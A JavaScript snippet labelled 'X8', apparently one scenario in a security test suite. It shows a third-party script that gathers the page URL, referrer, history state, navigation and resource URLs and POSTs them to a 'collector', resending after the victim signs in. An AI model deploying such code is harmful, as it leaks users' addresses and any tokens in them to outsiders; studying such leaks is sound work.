// X8: a script of another site, before the application's own and again once the
// victim is signed in. It reads addresses only, and sends them in one go.
const entries = () => ({
  address: location.href, referrer: document.referrer, state: JSON.stringify(history.state) ?? "",
  history: (window.navigation?.entries() ?? []).map((entry) => entry.url).join("\n"),
  timings: performance.getEntries().map((entry) => entry.name).join("\n"),
});
const send = () => {
  const request = new XMLHttpRequest();
  request.open("POST", collector, false); // it has arrived before the page goes on
  try { request.send(JSON.stringify({places: entries(), by: "XMLHttpRequest"})); } catch { /* it may not read the answer */ }
};
send();
const root = document.documentElement;
new MutationObserver(() => root.dataset.state === "in" && send()).observe(root, {attributes: true, attributeFilter: ["data-state"]});
